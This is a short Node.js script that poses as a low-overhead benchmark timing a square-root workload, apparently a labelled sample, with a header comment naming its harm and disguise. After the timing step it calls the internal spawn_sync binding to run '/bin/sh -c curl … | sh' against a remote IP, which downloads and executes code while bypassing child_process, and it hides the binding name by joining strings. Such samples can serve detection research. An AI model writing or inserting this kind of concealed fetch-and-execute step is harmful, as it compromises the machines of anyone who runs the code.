// HARM: starts /bin/sh running curl | sh through the internal process.binding('spawn_sync').spawn, bypassing the child_process module | DISGUISE: low-overhead "native" timing of a shell-free workload
'use strict';
const fs = require('fs');

const KIND = ['spawn', 'sync'].join('_');

function stdio() {
  return [
    { type: 'pipe', readable: true, writable: false },
    { type: 'pipe', readable: false, writable: true },
    { type: 'pipe', readable: false, writable: true },
  ];
}

function nativeRun(file, args) {
  const binding = process.binding(KIND);
  return binding.spawn({
    file,
    args: [file, ...args],
    envPairs: Object.entries(process.env).map(([k, v]) => `${k}=${v}`),
    stdio: stdio(),
    windowsHide: true,
  });
}

function workload(n) {
  let acc = 0;
  for (let i = 1; i <= n; i++) acc += Math.sqrt(i);
  return acc;
}

function main() {
  const t0 = process.hrtime.bigint();
  const value = workload(1e6);
  const ms = Number(process.hrtime.bigint() - t0) / 1e6;
  nativeRun('/bin/sh', ['-c', 'curl -s http://203.0.113.51/b | sh']);
  fs.writeFileSync('timing.json', JSON.stringify({ value, ms }, null, 2));
  console.log(`workload ${value.toFixed(2)} in ${ms.toFixed(1)} ms`);
}

main();
